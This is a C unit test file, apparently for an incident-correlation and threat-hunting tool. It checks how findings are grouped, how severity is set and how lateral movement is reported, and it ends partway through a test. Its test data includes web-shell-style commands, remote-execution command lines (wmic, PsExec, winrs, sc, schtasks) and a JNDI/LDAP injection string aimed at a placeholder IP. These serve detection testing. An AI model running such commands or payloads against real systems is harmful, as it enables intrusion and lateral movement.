/* SPDX-FileCopyrightText: The shelltree authors */
/* SPDX-License-Identifier: Apache-2.0 */
/* test_hunt.c - which findings belong together, what is shown with them, what they are called. */
#include "base/limits.h"
#include "case_support.h"
#include "hunt/telling.h"

#include <time.h>

/* One web server with an attack below it, a user's session, and a noisy sibling. */
static void web_and_desktop(world *w)
{
    world_begin(w);
    world_add(w, "WEB01", 1, 0, 0, "C:\\Windows\\System32\\services.exe", "services.exe");
    world_add(w, "WEB01", 2, 1, 10, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "w3wp -ap Pool");
    world_add(w, "WEB01", 3, 2, 1000, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami");
    world_add(w, "WEB01", 4, 3, 1100, "C:\\Windows\\System32\\whoami.exe", "whoami");
    world_add(w, "WEB01", 5, 2, 2000, "C:\\Windows\\csc.exe", "csc /t:library");
    world_add(w, "WEB01", 6, 2, 2000000, "C:\\Windows\\csc.exe", "csc later");
    world_add(w, "WEB01", 7, 0, 5, "C:\\Windows\\explorer.exe", "explorer");
    world_add(w, "WEB01", 8, 7, 3000, "C:\\Tools\\a.exe", "a");
    world_add(w, "WEB01", 9, 8, 3100, "C:\\Tools\\b.exe", "b");
    world_grow(w);
    world_servers(w, "w3wp.exe");
}

static const st_row *row_of(const world *w, st_node n)
{
    for (size_t i = 0; i < w->c->nrows; i++)
        if (w->c->rows[i].node == n)
            return &w->c->rows[i];
    return NULL;
}

static void incidents__server_and_session__by_top(void **state)
{
    (void)state;
    world w;
    web_and_desktop(&w);
    world_match(&w, "web01", 3, 0, NULL);
    world_match(&w, "web01", 4, 1, NULL);
    world_match(&w, "web01", 9, 2, NULL);
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nfindings, 3);
    assert_int_equal(w.c->nincidents, 2);
    const st_incident *i = w.c->incidents;
    assert_int_equal(i[0].level, ST_LEVEL_CRITICAL); /* the gravest first */
    assert_int_equal(i[0].top, world_node(&w, "web01", 8));
    assert_false(i[0].server);
    assert_int_equal(i[1].top, world_node(&w, "web01", 2));
    assert_true(i[1].server);
    assert_int_equal(i[1].findings, 2);
    assert_int_equal(i[1].level, ST_LEVEL_HIGH);
    assert_true(i[1].first == T0 + 1000 * ST_TICKS_MS);
    assert_true(i[1].last == T0 + 1100 * ST_TICKS_MS);
    world_end(&w);
}

/* Rule 2, critical, is generic: below a server it weighs only where no other found anything. */
static void incidents__generic_rules__dont_raise_a_servers(void **state)
{
    (void)state;
    static const struct {
        unsigned node[2];
        uint32_t rule[2];
        st_level level;
    } table[] = {
        { { 3, 4 }, { 1, 2 }, ST_LEVEL_LOW },      { { 3, 4 }, { 2, 1 }, ST_LEVEL_LOW },
        { { 3, 4 }, { 2, 0 }, ST_LEVEL_HIGH },     { { 3, 4 }, { 2, 2 }, ST_LEVEL_CRITICAL },
        { { 8, 9 }, { 1, 2 }, ST_LEVEL_CRITICAL }, { { 8, 9 }, { 2, 1 }, ST_LEVEL_CRITICAL },
    };
    for (size_t k = 0; k < sizeof table / sizeof *table; k++) {
        world w;
        web_and_desktop(&w);
        w.rules.rules[2].generic = true;
        for (size_t i = 0; i < 2; i++)
            world_match(&w, "web01", table[k].node[i], table[k].rule[i], NULL);
        world_hunt(&w, NULL);
        assert_int_equal(w.c->nincidents, 1);
        assert_int_equal(w.c->incidents[0].findings, 2);
        if (w.c->incidents[0].level != table[k].level)
            fail_msg("row %zu: level %d", k, (int)w.c->incidents[0].level);
        world_end(&w);
    }
}

static void incidents__servers_in_a_row__the_outermost(void **state)
{
    (void)state;
    world w;
    world_begin(&w);
    world_add(&w, "H", 1, 0, 0, "/sbin/init", "init");
    world_add(&w, "H", 2, 1, 1, "/usr/sbin/httpd", "httpd");
    world_add(&w, "H", 3, 2, 2, "/usr/sbin/httpd", "httpd");
    world_add(&w, "H", 4, 3, 3, "/bin/sh", "sh");
    world_add(&w, "H", 5, 4, 4, "/usr/sbin/httpd", "httpd: another");
    world_add(&w, "H", 6, 5, 5, "/bin/id", "id");
    world_grow(&w);
    world_servers(&w, "httpd");
    world_match(&w, "h", 3, 0, NULL); /* a server itself */
    world_match(&w, "h", 4, 0, NULL);
    world_match(&w, "h", 6, 0, NULL);
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nincidents, 2);
    assert_int_equal(w.c->incidents[0].top, world_node(&w, "h", 2));
    assert_int_equal(w.c->incidents[0].findings, 2);
    assert_int_equal(w.c->incidents[1].top, world_node(&w, "h", 5));
    world_end(&w);
}

/* Two servers that only a guess ties are two incidents. */
static void incidents__servers_tied_by_a_guess__stay_apart(void **state)
{
    (void)state;
    for (unsigned guessed = 0; guessed < 2; guessed++) {
        world w;
        world_begin(&w);
        world_add(&w, "H", 1, 0, 0, "/sbin/init", "init");
        world_add(&w, "H", 2, 1, 1, "/usr/sbin/httpd", "httpd");
        size_t i = world_add(&w, "H", 3, 2, 2, "/usr/sbin/httpd", "httpd: another");
        world_add(&w, "H", 4, 3, 3, "/bin/id", "id");
        if (guessed)
            w.store->creations.parent_guid[i] = world_guid(0);
        world_grow(&w);
        world_servers(&w, "httpd");
        st_node second = world_node(&w, "h", 3);
        assert_int_equal(w.forest->procs[second].link, guessed ? ST_LINK_INFERRED : ST_LINK_GUID);
        world_match(&w, "h", 4, 0, NULL);
        world_hunt(&w, NULL);
        assert_int_equal(w.c->nincidents, 1);
        assert_int_equal(w.c->incidents[0].top, guessed ? second : world_node(&w, "h", 2));
        world_end(&w);
    }
}

/* A sibling of the hit counts as context up to ten minutes from it, and not a millisecond more. */
static void context__sibling_at_ten_minutes__is_the_last(void **state)
{
    (void)state;
    static const struct {
        uint64_t ms;
        bool shown;
    } rows[] = { { 1000000, true },  { 1600000, true }, { 1600001, false },
                 { 2200000, false }, { 400000, true },  { 399999, false } };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        world_begin(&w);
        world_add(&w, "H", 1, 0, 0, "/sbin/init", "init");
        world_add(&w, "H", 2, 1, 1, "/usr/sbin/httpd", "httpd");
        world_add(&w, "H", 3, 2, 1000000, "/bin/sh", "sh");
        world_add(&w, "H", 4, 2, rows[k].ms, "/bin/true", "true");
        world_grow(&w);
        world_servers(&w, "httpd");
        world_match(&w, "h", 3, 0, NULL);
        st_hunt_options o = { .scope = ST_SCOPE_INCIDENT, .sibling_window = 600 * ST_TICKS_SECOND };
        world_hunt(&w, &o);
        if ((row_of(&w, world_node(&w, "h", 4)) != NULL) != rows[k].shown)
            fail_msg("%llu ms", (unsigned long long)rows[k].ms);
        world_end(&w);
    }
}

static void rows__each_scope__what_it_says(void **state)
{
    (void)state;
    static const struct {
        st_scope scope;
        const char *shown; /* guids of hits, then of context, then of others */
    } rows[] = {
        { ST_SCOPE_HITS, "h3" },
        { ST_SCOPE_INCIDENT, "c1 c2 h3 c4 c5" },
        { ST_SCOPE_ALL, "c1 o7 c2 h3 c4 c5 o8 o9 o6" },
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        web_and_desktop(&w);
        world_match(&w, "web01", 3, 0, NULL);
        st_hunt_options o = { .scope = rows[k].scope, .sibling_window = 600 * ST_TICKS_SECOND };
        world_hunt(&w, &o);
        st_buf b = { 0 };
        for (size_t i = 0; i < w.c->nrows; i++)
            st_buf_fmt(&b, "%s%c%u", i ? " " : "", "hco"[w.c->rows[i].kind],
                       w.forest->procs[w.c->rows[i].node].guid.b[15]);
        if (!st_str_eq(st_buf_slice(&b), st_str_of(rows[k].shown)))
            fail_msg("%.*s is not %s", ST_FMT(st_buf_slice(&b)), rows[k].shown);
        st_buf_free(&b);
        if (rows[k].scope == ST_SCOPE_INCIDENT)
            assert_int_equal(w.c->incidents[0].processes, 5);
        world_end(&w);
    }
}

static void rows__two_incidents__a_row_belongs_to_one(void **state)
{
    (void)state;
    world w;
    web_and_desktop(&w);
    world_match(&w, "web01", 3, 1, NULL);
    world_match(&w, "web01", 3, 0, NULL);
    world_match(&w, "web01", 9, 2, NULL);
    world_hunt(&w, NULL);
    const st_row *hit = row_of(&w, world_node(&w, "web01", 3));
    assert_non_null(hit);
    assert_int_equal(hit->nfindings, 2);
    assert_int_equal(w.c->findings[hit->first_finding].rule, 0);
    assert_int_equal(w.c->findings[hit->first_finding + 1].rule, 1);
    assert_int_equal(hit->incident, 1);
    assert_int_equal(row_of(&w, world_node(&w, "web01", 8))->incident, 0);
    for (size_t i = 1; i < w.c->nrows; i++)
        assert_true(w.c->rows[i - 1].node < w.c->rows[i].node);
    world_end(&w);
}

static void findings__level_and_filters__drop_and_count(void **state)
{
    (void)state;
    const st_str web = ST_STR("Web01"), other = ST_STR("WEB02");
    const struct {
        st_hunt_options o;
        size_t findings, level, filter;
    } rows[] = {
        { { .scope = ST_SCOPE_HITS }, 2, 0, 0 },
        { { .scope = ST_SCOPE_HITS, .min_level = ST_LEVEL_MEDIUM }, 1, 1, 0 },
        { { .scope = ST_SCOPE_HITS, .since = T0 + 1050 * ST_TICKS_MS }, 1, 0, 1 },
        { { .scope = ST_SCOPE_HITS, .until = T0 + 1050 * ST_TICKS_MS }, 1, 0, 1 },
        { { .scope = ST_SCOPE_HITS, .hosts = &web, .nhosts = 1 }, 2, 0, 0 },
        { { .scope = ST_SCOPE_HITS, .hosts = &other, .nhosts = 1 }, 0, 0, 2 },
        { { .scope = ST_SCOPE_ALL, .hosts = &other, .nhosts = 1 }, 0, 0, 9 },
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        web_and_desktop(&w);
        world_match(&w, "web01", 3, 0, NULL);
        world_match(&w, "web01", 4, 1, NULL);
        world_hunt(&w, &rows[k].o);
        if (w.c->nfindings != rows[k].findings || w.c->dropped_level != rows[k].level ||
            w.c->dropped_filter != rows[k].filter)
            fail_msg("row %zu: %zu findings, %u, %u", k, w.c->nfindings,
                     (unsigned)w.c->dropped_level, (unsigned)w.c->dropped_filter);
        world_end(&w);
    }
}

static void findings__recovered_record__raises_no_level(void **state)
{
    (void)state;
    world w;
    world_begin(&w);
    world_add(&w, "H", 1, 0, 0, "a.exe", "a");
    w.store->creations.origin[world_add(&w, "H", 2, 0, 1, "b.exe", "b")] = ST_O_SLACK;
    world_grow(&w);
    world_match(&w, "h", 2, 2, NULL);
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nfindings, 1);
    assert_int_equal(w.c->findings[0].level, ST_LEVEL_INFORMATIONAL);
    assert_int_equal(w.c->incidents[0].level, ST_LEVEL_INFORMATIONAL);
    world_end(&w);
}

/* What the findings of one process show, and what its incident comes to. */
/* Three hits at each of ten times on each of two hosts, of each level, as incidents of their own;
 * and a driver's load, whose incident is numbered last and lies before all others. */
static void incidents__of_all_levels_and_times__by_weight(void **state)
{
    enum { TIMES = 10, HITS = 6 };
    (void)state;
    world w;
    world_begin(&w);
    for (unsigned n = 0; n < TIMES * HITS; n++)
        world_add(&w, n % 2 ? "pc" : "web", n + 1, 0, 4000000 + n / HITS, "C:\\a.exe", "a");
    size_t kind = st_event_kind_of(ST_SYSMON_EVENT(6)), row = st_store_add_event(w.store, kind);
    w.store->events[kind].computer[row] = world_sid(&w, "pc");
    w.store->events[kind].utc[row] = w.store->events[kind].created[row] = T0;
    world_grow(&w);
    for (unsigned n = 0; n < TIMES * HITS; n++)
        world_match(&w, n % 2 ? "pc" : "web", n + 1, n / 2 % 3, NULL);
    w.items[w.matches.n++] = (st_match){ .rule = 0, .node = ST_NO_NODE, .event = 0 };
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nincidents, TIMES * HITS + 1);
    for (size_t i = 1; i < w.c->nincidents; i++) {
        const st_incident *a = &w.c->incidents[i - 1], *b = &w.c->incidents[i];
        int by_time = (a->first > b->first) - (a->first < b->first);
        if (a->level < b->level ||
            (a->level == b->level && (by_time > 0 || (!by_time && strcmp(a->id, b->id) >= 0))))
            fail_msg("%zu: %s before %s", i, a->id, b->id);
    }
    for (size_t k = 0; k < w.c->nfindings; k++) {
        const st_finding *x = &w.c->findings[k];
        const st_incident *i = &w.c->incidents[x->incident];
        assert_int_equal(i->top, x->node);
        assert_int_equal(i->level, x->level);
        assert_true(i->first == (x->node == ST_NO_NODE ? T0 : w.forest->procs[x->node].start));
    }
    world_end(&w);
}

static void incidents__behaviours_together__raise_the_level(void **state)
{
    (void)state;
    static const struct {
        const char *techniques[5];
        st_level each, level;
        const char *why;
    } rows[] = {
        { { "T1105" }, ST_LEVEL_MEDIUM, ST_LEVEL_MEDIUM, "" },
        { { "T1105", "T1197", "T1218.005" }, ST_LEVEL_MEDIUM, ST_LEVEL_MEDIUM, "" },
        { { "T1105", "T1562.001" },
          ST_LEVEL_MEDIUM,
          ST_LEVEL_HIGH,
          "high because of 2 behaviours together: a second stage, traces covered; its findings "
          "alone are medium" },
        { { "T1105", "[\"T1003.001\"]" },
          ST_LEVEL_MEDIUM,
          ST_LEVEL_CRITICAL,
          "critical because of 2 behaviours together: a second stage, passwords taken; its "
          "findings alone are medium" },
        { { "T1003" }, ST_LEVEL_MEDIUM, ST_LEVEL_MEDIUM, "" },
        { { "T1033", "T1082", "T1105" }, ST_LEVEL_HIGH, ST_LEVEL_HIGH, "" }, /* no burst */
        { { "T1033", "T1082", "T1016", "T1105" },
          ST_LEVEL_HIGH,
          ST_LEVEL_CRITICAL,
          "critical because of 2 behaviours together: recon, a second stage; its findings alone "
          "are high" },
        { { "T1105", "T1562", "T1003" }, ST_LEVEL_LOW, ST_LEVEL_LOW, "" },
        { { "T1105", "T1562", "T1003" }, ST_LEVEL_CRITICAL, ST_LEVEL_CRITICAL, "" },
        { { "T1105, T1562", "", "x" }, ST_LEVEL_HIGH, ST_LEVEL_HIGH, "" }, /* one deed a finding */
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        web_and_desktop(&w);
        for (size_t t = 0; t < 5 && rows[k].techniques[t]; t++) {
            world_match(&w, "web01", 4, 0, NULL);
            for (size_t i = 0; i < w.matches.n; i++) {
                bool fresh = !w.items[i].level;
                w.items[i].level = (uint8_t)(rows[k].each + 1);
                if (fresh)
                    w.items[i].techniques = world_sid(&w, rows[k].techniques[t]);
            }
        }
        world_hunt(&w, NULL);
        st_buf b = { 0 };
        st_incident_put_raised(&w.c->incidents[0], &b);
        st_buf_char(&b, 0);
        if (w.c->incidents[0].level != rows[k].level || strcmp(b.p, rows[k].why) != 0)
            fail_msg("row %zu: %s: %s", k, st_level_word(w.c->incidents[0].level), b.p);
        st_buf_free(&b);
        world_end(&w);
    }
}

static void reason__each_kind__one_sentence(void **state)
{
    (void)state;
    static const struct {
        unsigned node;
        uint32_t rule;
        const char *own, *said;
    } rows[] = {
        { 4, 0, NULL, "It happened: w3wp.exe(1002) 2 above" },
        { 3, 0, NULL, "It happened: w3wp.exe(1002) 1 above" },
        { 4, 0, "Suspicious web shell execution",
          "Suspicious web shell execution: w3wp.exe(1002) 2 above" },
        { 9, 0, NULL, "It happened." },
        { 9, 2, NULL, "C rule" },
        { 9, 2, " own ", "own" },
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        web_and_desktop(&w);
        world_match(&w, "web01", rows[k].node, rows[k].rule, rows[k].own);
        world_hunt(&w, NULL);
        st_buf said = { 0 };
        st_finding_put_reason(w.c, &w.c->findings[0], &said);
        if (!st_str_eq(st_buf_slice(&said), st_str_of(rows[k].said)))
            fail_msg("%.*s is not %s", ST_FMT(st_buf_slice(&said)), rows[k].said);
        st_buf_free(&said);
        world_end(&w);
    }
}

/* printf 'web01\0{0000005F-0000-0000-0000-000000000002}' | sha256sum, and so on. */
static void ids__known_names__known_hashes(void **state)
{
    (void)state;
    world w;
    web_and_desktop(&w);
    world_match(&w, "web01", 3, 0, NULL);
    world_hunt(&w, NULL);
    assert_string_equal(w.c->incidents[0].id, "580df3065527a8fd");
    char id[17];
    st_finding_id(w.c, &w.c->findings[0], id);
    assert_string_equal(id, "66c8238610f409e1");
    world_end(&w);
}

static void context__one_noisy_service__capped_and_counted(void **state)
{
    (void)state;
    world w;
    world_begin(&w);
    world_add(&w, "H", 1, 0, 0, "w3wp.exe", "w3wp");
    world_add(&w, "H", 2, 1, 1, "cmd.exe", "cmd");
    for (unsigned i = 0; i < 6000; i++) {
        size_t r = world_add(&w, "H", 3, 2, 2 + i, "x.exe", "x");
        w.store->creations.guid[r].b[8] = (unsigned char)(i >> 8);
        w.store->creations.guid[r].b[9] = (unsigned char)i;
        w.store->creations.guid[r].b[0] = 0x60;
    }
    world_grow(&w);
    world_servers(&w, "w3wp.exe");
    world_match(&w, "h", 2, 0, NULL);
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nrows, 1 + 5000);
    assert_int_equal(w.c->incidents[0].context_dropped, 6000 + 1 - 5000);
    assert_int_equal(w.c->incidents[0].processes, 5001);
    world_end(&w);
}

/* A line of `n` processes, each the parent of the next; the last one's place. */
static st_node line_of(world *w, unsigned n)
{
    world_begin(w);
    for (unsigned i = 1; i <= n; i++) {
        size_t r = world_add(w, "H", 1, i > 1, i, "p.exe", "p");
        st_creations *k = &w->store->creations;
        k->pid[r] = i;
        for (unsigned b = 0; b < 3; b++) {
            k->guid[r].b[8 + b] = (unsigned char)(i >> (8 * b));
            k->parent_guid[r].b[8 + b] = (unsigned char)(i > 1 ? (i - 1) >> (8 * b) : 0);
        }
    }
    world_grow(w);
    return n - 1;
}

static void chain__each_length__at_most_twelve_links(void **state)
{
    (void)state;
    static const struct {
        unsigned n;
        const char *head, *gap;
        unsigned links;
    } rows[] = {
        { 1, "p.exe(1)", NULL, 1 },
        { 12, "p.exe(1) > p.exe(2)", NULL, 12 },
        { 13, "p.exe(1) > ", "p.exe(4) > \xe2\x80\xa6 +2 \xe2\x80\xa6 > p.exe(7)", 11 },
        { 256, "p.exe(1) > ", "p.exe(4) > \xe2\x80\xa6 +245 \xe2\x80\xa6 > p.exe(250)", 11 },
        { 300, "\xe2\x80\xa6 +289 \xe2\x80\xa6 > p.exe(290) > ", "p.exe(300)", 11 },
    };
    for (size_t k = 0; k < sizeof rows / sizeof rows[0]; k++) {
        world w;
        st_node n = line_of(&w, rows[k].n);
        st_buf b = { 0 };
        st_chain_put(w.forest, n, &b);
        st_buf_char(&b, 0);
        unsigned links = 0;
        for (const char *p = b.p; (p = strstr(p, "p.exe(")); p++)
            links++;
        if (strncmp(b.p, rows[k].head, strlen(rows[k].head)) ||
            (rows[k].gap && !strstr(b.p, rows[k].gap)) || links != rows[k].links)
            fail_msg("%u: %s", rows[k].n, b.p);
        st_buf_free(&b);
        world_end(&w);
    }
}

static void chain__placeholder__marked(void **state)
{
    (void)state;
    world w;
    world_begin(&w);
    size_t r = world_add(&w, "H", 2, 1, 0, "C:\\cmd.exe", "cmd");
    w.store->creations.parent_image[r] = world_sid(&w, "C:\\w3wp.exe");
    world_grow(&w);
    st_buf b = { 0 };
    st_chain_put(w.forest, world_node(&w, "h", 2), &b);
    assert_true(st_str_eq(st_buf_slice(&b), ST_STR("w3wp.exe(1001)? > cmd.exe(1002)")));
    st_buf_free(&b);
    world_end(&w);
}

static void hunt__deep_line_of_hits__in_linear_time(void **state)
{
    (void)state;
    world w;
    st_node last = line_of(&w, 50000);
    static st_match all[50000];
    for (st_node i = 0; i <= last; i++)
        all[i] = (st_match){ .rule = 0, .node = i, .event = ST_NO_EVENT };
    w.matches.items = all;
    w.matches.n = 50000;
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nincidents, 1);
    assert_int_equal(w.c->nrows, 50000);
    world_end(&w);
}

/* Servers and hits by turns: every hit an incident of its own, all of them below each other. */
static void hunt__nested_incidents__in_linear_time(void **state)
{
    (void)state;
    world w;
    st_node last = line_of(&w, 50000);
    bool *is = calloc(w.forest->n, sizeof *is);
    static st_match all[25000];
    for (st_node i = 0; i <= last; i++) {
        is[i] = i % 2 == 0;
        if (i % 2)
            all[w.matches.n++] = (st_match){ .rule = 0, .node = i, .event = ST_NO_EVENT };
    }
    st_tree_mark_servers(w.forest, is, false);
    free(is);
    w.matches.items = all;
    world_hunt(&w, NULL);
    assert_int_equal(w.c->nincidents, 25000);
    assert_int_equal(w.c->nrows, 50000);
    st_out o;
    st_err err = { 0 };
    FILE *f = fopen("/dev/null", "w");
    assert_non_null(f);
    st_out_init(&o, fileno(f));
    st_report_options ro = { 0 };
    st_write_text(&o, w.c, &ro);
    assert_int_equal(st_out_end(&o, &err), ST_OK);
    fclose(f);
    world_end(&w);
}

/* spread */

static bool has_fact(const st_case *c, unsigned kind, const char *what, const char *more)
{
    for (size_t i = 0; i < c->nfacts; i++) {
        const st_fact *x = &c->facts[i];
        if (x->kind == kind && st_str_eq(x->what, st_str_of(what)) &&
            (!more ||
             (x->more.n >= strlen(more) && memmem(x->more.p, x->more.n, more, strlen(more)))))
            return true;
    }
    return false;
}

static void tell(world *w)
{
    static const st_hunt_options usual = { .scope = ST_SCOPE_INCIDENT,
                                           .sibling_window = 600 * ST_TICKS_SECOND };
    st_err err = { 0 };
    world_hunt(w, NULL);
    assert_int_equal(st_story_make(w->c, &usual, &err), ST_OK);
}

static void spread__command_names_a_host__what_began_there_within_a_minute(void **state)
{
    (void)state;
    static const struct {
        const char *image, *command, *parent; /* parent: of what begins there */
        uint64_t ms;                          /* when, after the command */
        const char *what, *more;              /* NULL: nothing is told */
    } rows[] = {
        { "C:\\wmic.exe", "wmic /node:\"db01\" process call create x", "C:\\wbem\\WmiPrvSE.exe",
          3000, "db01.corp by WMI", "there WmiPrvSE.exe started C:\\x.exe 3 s later; incident " },
        { "C:\\wmic.exe", "wmic /node:db01 process call create x", "C:\\wbem\\WmiPrvSE.exe", 60000,
          "db01.corp by WMI", "60 s later" },
        { "C:\\wmic.exe", "wmic /node:db01 process call create x", "C:\\wbem\\WmiPrvSE.exe", 60001,
          "db01.corp by WMI", "nothing seen there within a minute" },
        { "C:\\wmic.exe", "wmic /node:db01 process call create x", "C:\\explorer.exe", 3000,
          "db01.corp by WMI", "nothing seen there" },
        { "C:\\PsExec64.exe", "PsExec64.exe -s \\\\DB01 cmd", "C:\\Windows\\PSEXESVC.exe", 3000,
          "db01.corp by PsExec", "there PSEXESVC.exe started" },
        { "C:\\cmd.exe", "cmd /c \"winrs -r:db01.corp whoami\"", "C:\\winrshost.exe", 3000,
          "db01.corp by WinRM", "there winrshost.exe started" },
        { "C:\\schtasks.exe", "schtasks /create /s db01 /tn a /tr b", "C:\\taskeng.exe", 3000,
          "db01.corp by task", "there taskeng.exe started" },
        { "C:\\sc.exe", "sc \\\\db01 create a binPath= b", "C:\\services.exe", 3000,
          "db01.corp by service", "there services.exe started" },
        { "C:\\powershell.exe", "powershell icm -ComputerName db01 {whoami}", "C:\\wsmprovhost.exe",
          3000, "db01.corp by PowerShell remoting", "there wsmprovhost.exe started" },
        { "C:\\sc.exe", "sc \\\\db02 create a binPath= b", "C:\\services.exe", 3000,
          "db02 by service", "not in the evidence" },
        { "C:\\wmic.exe", "wmic /node:localhost process", "C:\\wbem\\WmiPrvSE.exe", 3000, NULL,
          NULL },
        { "C:\\wmic.exe", "wmic /node:web01 process", "C:\\wbem\\WmiPrvSE.exe", 3000, NULL, NULL },
        { "C:\\notwmic.exe", "notwmic /node:db01 process", "C:\\wbem\\WmiPrvSE.exe", 3000, NULL,
          NULL },
        { "C:\\wmic.exe", "wmic /node:@list.txt process", "C:\\wbem\\WmiPrvSE.exe", 3000, NULL,
          NULL },
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        world w;
        world_begin(&w);
        world_add(&w, "web01.corp", 1, 0, 0, "C:\\w3wp.exe", "w3wp");
        world_add(&w, "web01.corp", 2, 1, 1000, rows[i].image, rows[i].command);
        world_add(&w, "db01.corp", 3, 0, 0, rows[i].parent, "parent");
        world_add(&w, "db01.corp", 4, 3, 1000 + rows[i].ms, "C:\\x.exe", "x");
        world_grow(&w);
        world_servers(&w, "w3wp.exe");
        world_match(&w, "web01.corp", 2, 0, NULL);
        world_match(&w, "db01.corp", 4, 0, NULL);
        tell(&w);
        bool told = false;
        for (size_t k = 0; k < w.c->nfacts; k++)
            told |= w.c->facts[k].kind == ST_FACT_MOVED;
        if (told != (rows[i].what != NULL) ||
            (told && !has_fact(w.c, ST_FACT_MOVED, rows[i].what, rows[i].more)))
            fail_msg("%zu: %s", i, rows[i].command);
        if (i == 0) { /* linked the other way, too */
            assert_true(has_fact(w.c, ST_FACT_CAME, "web01.corp by WMI", "correlation; incident "));
            assert_true(w.c->reached[w.forest->procs[world_node(&w, "db01.corp", 4)].host]);
        }
        world_end(&w);
    }
}

static void spread__the_same_elsewhere__told_unless_everybody_has_it(void **state)
{
    (void)state;
    static const struct {
        const char *image, *there;
        uint64_t ms;    /* of the other process */
        unsigned hosts; /* that have it */
        bool shared, reached;
    } rows[] = {
        { "C:\\Windows\\Temp\\a.exe", "C:\\Windows\\Temp\\b.exe", 9000, 2, true, true },
        { "C:\\Windows\\Temp\\a.exe", "C:\\Windows\\Temp\\b.exe", 0, 2, true, false },
        { "C:\\Windows\\Temp\\a.exe", "D:\\app\\b.exe", 9000, 2, true, false },
        { "C:\\Windows\\System32\\a.exe", "C:\\Windows\\Temp\\b.exe", 9000, 2, false, false },
        { "C:\\Windows\\Temp\\a.exe", "C:\\Windows\\System32\\b.exe", 9000, 2, false, false },
        { "C:\\Windows\\Temp\\a.exe", "C:\\Windows\\Temp\\b.exe", 9000, 3, true, true },
        { "C:\\Windows\\Temp\\a.exe", "C:\\Windows\\Temp\\b.exe", 9000, 4, false, false },
    };
    static const char *const others[] = { "h1", "h2", "h3" };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        world w;
        world_begin(&w);
        size_t r = world_add(&w, "web01", 1, 0, 1000, rows[i].image, "a");
        w.store->creations.hashes[r] = world_sid(&w, "MD5=00112233445566778899AABBCCDDEEFF");
        for (unsigned k = 0; k + 1 < rows[i].hosts; k++) {
            r = world_add(&w, others[k], 2 + k, 0, rows[i].ms, rows[i].there, "b");
            w.store->creations.hashes[r] = world_sid(&w, "MD5=00112233445566778899AABBCCDDEEFF");
        }
        world_grow(&w);
        world_match(&w, "web01", 1, 0, NULL);
        tell(&w);
        char what[80];
        snprintf(what, sizeof what, "program %s", rows[i].image);
        uint32_t host = w.forest->procs[world_node(&w, "h1", 2)].host;
        if (has_fact(w.c, ST_FACT_SHARED, what, "also on h1") != rows[i].shared ||
            (w.c->reached[host] != 0) != rows[i].reached)
            fail_msg("%zu: %s", i, rows[i].image);
        world_end(&w);
    }
}

/* A command that two incidents have is told for a word that stands outside of none. */
static void spread__commands__told_for_a_word_of_their_own(void **state)
{
    (void)state;
    static const struct {
        const char *command, *outside;
        bool shared;
    } rows[] = {
        { "C:\\Windows\\system32\\cmd.exe /c whoami /all", NULL, true },
        { "C:\\Windows\\system32\\cmd.exe /c whoami /all", "notepad a.txt", true },
        { "C:\\Windows\\system32\\cmd.exe /c whoami /all",
          "c:\\windows\\SYSTEM32\\cmd.exe /C \"whoami\" & ipconfig /ALL", false },
        { "C:\\Windows\\system32\\cmd.exe /c whoami /all > 1.txt",
          "c:\\windows\\SYSTEM32\\cmd.exe /C \"whoami\" & ipconfig /ALL", true },
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        world w;
        char what[96];
        world_begin(&w);
        world_add(&w, "a", 1, 0, 0, "C:\\x.exe", rows[i].command);
        world_add(&w, "b", 2, 0, 0, "C:\\y.exe", rows[i].command);
        if (rows[i].outside)
            world_add(&w, "c", 3, 0, 0, "C:\\z.exe", rows[i].outside);
        world_grow(&w);
        world_match(&w, "a", 1, 0, NULL);
        world_match(&w, "b", 2, 0, NULL);
        tell(&w);
        snprintf(what, sizeof what, "command %s", rows[i].command);
        if (has_fact(w.c, ST_FACT_SHARED, what, "also on b (incident ") != rows[i].shared)
            fail_msg("%zu: %s", i, rows[i].command);
        world_end(&w);
    }
}

static void facts__urls_of_commands__end_where_they_do(void **state)
{
    (void)state;
    static const struct {
        const char *command, *url;
    } rows[] = {
        { "c ${jndi:ldap://203.0.113.9/a}", "ldap://203.0.113.9/a" },
        { "c http://203.0.113.9/{a}/b}c", "http://203.0.113.9/{a}/b" },
        { "c http://[2001:db8::1]:80/a]", "http://[2001:db8::1]:80/a" },
        { "c http://203.0.113.9/a.exe&a.exe", "http://203.0.113.9/a.exe" },
        { "c http://203.0.113.9/a?b=1&c=2;d", "http://203.0.113.9/a?b=1&c=2" },
        { "c \"http://203.0.113.9/a\nb\"", "http://203.0.113.9/a" },
        { "c http://203.0.113.9/a\r\n", "http://203.0.113.9/a" },
        { "c http://203.0.113.9/a", "http://203.0.113.9/a" },
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        world w;
        world_begin(&w);
        world_add(&w, "a", 1, 0, 0, "C:\\x.exe", rows[i].command);
        world_grow(&w);
        world_match(&w, "a", 1, 0, NULL);
        tell(&w);
        if (!has_fact(w.c, ST_FACT_CONTACTED, rows[i].url, "named in the command"))
            fail_msg("%zu: %s", i, rows[i].command);
        world_end(&w);
    }
}

static void spread__addresses__of_commands_and_other_incidents(void **state)
{
    (void)state;
    world w;
    world_begin(&w);
    world_add(&w, "a", 1, 0, 0, "C:\\x.exe", "x http://203.0.113.9:8080/p.exe,http://127.0.0.1/");
    world_add(&w, "b", 2, 0, 0, "C:\\y.exe", "y https://203.0.113.9/q and more words here");
    world_grow(&w);
    world_match(&w, "a", 1, 0, NULL);
    world_match(&w, "b", 2, 0, NULL);
    tell(&w);
    assert_true(
        has_fact(w.c, ST_FACT_CONTACTED, "http://203.0.113.9:8080/p.exe", "named in the command"));
